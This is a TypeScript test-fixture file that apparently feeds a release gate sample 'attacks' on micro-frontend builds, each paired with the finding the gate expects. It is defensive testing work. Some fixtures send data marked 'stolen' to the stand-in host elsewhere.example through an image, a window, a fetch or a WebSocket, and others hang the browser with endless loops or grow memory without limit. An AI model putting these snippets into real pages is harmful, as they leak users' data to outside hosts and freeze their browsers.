import { randomBytes } from 'node:crypto'
import { attacksOnThePage } from './attacks-on-the-page.ts'
import type { Variant } from '../release/variant.ts'
import { type CandidateAttack, type CandidateBatch, foundBy, hiddenStorage } from './candidate-attack.ts'
import { integrityOf, manifestOf, withFiles, withManifest } from './candidate.ts'

/** A host that is not the portal; no such host exists. */
export const otherHost = 'elsewhere.example'

const heavy = 'static/heavy.js'

/** Adds a file of 400 kB, which the entry may load. */
function withHeavyFile(variant: Variant): Variant {
  const bytes = Buffer.from(`export default '${randomBytes(400_000).toString('base64')}'`)
  const entry = String(variant.files.get(variant.manifest.entry))
  return withFiles(variant, { [heavy]: bytes, [variant.manifest.entry]: `${entry}\n/* ${integrityOf(bytes)} */` })
}

const texts: CandidateBatch = {
  name: 'texts',
  attacks: [
    {
      id: 'untranslated',
      attack: 'A French sentence in `ar.json`',
      check: 'texts',
      finding: 'ar: semesters is not Arabic: "Phrase en français".',
    },
    {
      id: 'literal',
      attack: 'A text that is in no locale file',
      check: 'visible-texts',
      finding: 'shows the text "Texte jamais traduit", which is in no locale file',
      code: {
        mount: `const text=document.createElement('p');text.textContent='Texte jamais traduit';props.container.append(text)`,
      },
    },
    {
      id: 'other-locales',
      attack: 'French texts in the Arabic build, with a `locales.json` that shows Arabic ones',
      check: 'visible-texts',
      finding: 'shows the text "Voici la semaine", which is in no locale file (ar, as teacher)',
      code: { arabic: ['جدول أوقاتي', 'Voici la semaine'] },
    },
  ],
  change: (variant) => {
    const locales = String(variant.files.get('locales.json'))
    return withFiles(variant, { 'locales.json': locales.replace('"السداسيات"', '"Phrase en français"') })
  },
}

const wrongClaims: CandidateBatch = {
  name: 'claims that its code does not bear out',
  attacks: [
    {
      id: 'declared-operation',
      attack: 'Declares a call that its code does not make, to make it later',
      check: 'operations',
      finding: 'POST /api/note/save is declared, but never called.',
    },
    {
      id: 'preload',
      attack: 'Has every visitor load what only one page needs',
      check: 'build',
      finding: `${heavy} is loaded at once, but no container needs it.`,
    },
    {
      id: 'unnamed-file',
      attack: 'Stores files that no page uses',
      check: 'files',
      finding: 'static/films.bin is named by no code and by no style sheet.',
    },
  ],
  change: (variant) => {
    const { operations, preload } = manifestOf(variant)
    const added = withHeavyFile(withFiles(variant, { 'static/films.bin': randomBytes(1000) }))
    return withManifest(added, {
      operations: [...operations, 'POST /api/note/save'],
      preload: [...preload, heavy],
    })
  },
}

const network: CandidateBatch = {
  name: 'requests',
  attacks: foundBy('network', [
    {
      id: 'call-on-click',
      attack: 'A call that is not in its contract, when a menu is opened',
      finding: 'requests GET /api/livre/select, which is not in its contract (remoteEntry.js:…)',
      code: {
        mount: `const more=document.createElement('button');more.setAttribute('aria-expanded','false');more.textContent='+';more.onclick=()=>void fetch('/api/livre/select').then((answer)=>answer.text());props.container.append(more)`,
      },
    },
    {
      id: 'call-after-leaving',
      attack: 'A call that is not in its contract, after the navigation to another page',
      finding: 'requests GET /api/mot/select, which is not in its contract (remoteEntry.js:…)',
      code: { unmount: `void fetch('/api/mot/select').then((answer)=>answer.text())` },
    },
    {
      id: 'other-host-image',
      attack: 'An image of another host, with data in its URL',
      finding: `requests https://${otherHost}/x.png?stolen from another host (remoteEntry.js:…)`,
      code: { mount: `new Image().src='https://${otherHost}/x.png?stolen'` },
    },
    {
      id: 'call-in-an-hour',
      attack: 'A call that is not in its contract, after twenty minutes',
      finding: 'within an hour requests GET /api/grade/select, which is not in its contract (remoteEntry.js:…)',
      code: { mount: `setTimeout(()=>void fetch('/api/grade/select').then((answer)=>answer.text()),1_200_000)` },
    },
    {
      id: 'other-host-window',
      attack: 'A window of another host, with data in its URL',
      finding: 'opens a window',
      code: { mount: `setTimeout(()=>open('https://${otherHost}/?stolen'),500)` },
    },
  ]),
}

/** The content security policy refuses these, for teachers as in the gate. */
const refusedRequests: CandidateBatch = {
  name: 'requests that the browser refuses',
  attacks: foundBy('browser', [
    {
      id: 'other-host',
      attack: 'A call to another host',
      finding: `the content policy refused https://${otherHost}/stolen (connect-src)`,
      code: { mount: `fetch('https://${otherHost}/stolen').catch(()=>{})` },
    },
    {
      id: 'other-host-socket',
      attack: 'A WebSocket to another host',
      finding: `the content policy refused wss://${otherHost}/ (connect-src)`,
      code: { mount: `try{new WebSocket('wss://${otherHost}/').close()}catch{}` },
    },
  ]),
}

const weight: CandidateBatch = {
  name: 'weight',
  attacks: [
    {
      id: 'weight',
      attack: 'Loads 400 kB by `import()` after it is mounted',
      check: 'weight',
      finding: `loads …, and at most 240.0 kB are allowed: ${heavy} …`,
      code: { mount: `void import(new URL('${heavy}',base).href)` },
    },
  ],
  change: withHeavyFile,
}

const growth: CandidateBatch = {
  name: 'what grows with each mount',
  attacks: foundBy('globals', [
    {
      id: 'grows-memory',
      attack: 'Keeps a megabyte more each time that its page is mounted',
      finding: 'the memory grows by … kB with each mount',
      code: { mount: '(shared.kept??=[]).push(Array.from({length:131072},Math.random))' },
    },
    {
      id: 'grows-nodes',
      attack: 'Keeps fifty elements more each time that its page is mounted',
      finding: 'the number of nodes grows by … with each mount',
      code: {
        mount: `for(let left=50;left>0;left--)(shared.nodes??=[]).push(document.createElement('p'))`,
      },
    },
  ]),
}

/** The gate repeats a visit in which the browser was blocked. */
const longTask: CandidateBatch = {
  name: 'work without a break',
  attacks: [
    {
      id: 'long-task',
      attack: 'Blocks the browser for more than half a second',
      check: 'time',
      finding: 'blocks the browser for more than 500 ms (remoteEntry.js:…)',
      // Its processor time, which the gate measures, does not depend on the load of the machine.
      code: { mount: 'let sum=0;for(let step=0;step<6e8;step++)sum+=Math.sqrt(step);props.container.sum=sum' },
    },
    {
      id: 'stored-once',
      attack: 'Leaves a key in the storage in a visit that the gate repeats',
      check: 'globals',
      finding: 'leaves visited=yes in localStorage after it is unmounted',
      code: { mount: `${hiddenStorage}.setItem('visited','yes')` },
    },
  ],
}

function single(attack: CandidateAttack): CandidateBatch {
  return { name: attack.id, attacks: [attack] }
}

/** Every batch of attacks that the gate judges. */
export const candidateBatches: readonly CandidateBatch[] = [
  ...attacksOnThePage,
  texts,
  wrongClaims,
  network,
  refusedRequests,
  weight,
  growth,
  longTask,
  single({
    id: 'effect-loop',
    attack: 'An effect that sets its own dependency, without end',
    check: 'time',
    finding: 'does not come to rest: it computes or renders while nothing happens',
    code: {
      page: '(props)=>{const {React}=OWN,[count,setCount]=React.useState(0);React.useEffect(()=>{setCount(count+1)},[count]);return Page(props)}',
    },
  }),
  single({
    id: 'render-loop',
    attack: 'A page that sets its state while it is rendered, without end',
    check: 'browser',
    finding: 'shows a failure: …',
    code: {
      page: '(props)=>{const {React}=OWN,[count,setCount]=React.useState(0);setCount(count+1);return Page(props)}',
    },
  }),
  single({
    id: 'endless-loop',
    attack: 'A loop without end, which would hold the gate for longer than its limit',
    check: 'time',
    finding: 'does not respond: its visit had not ended after 60 s',
    code: { mount: 'for(;;);' },
  }),
]
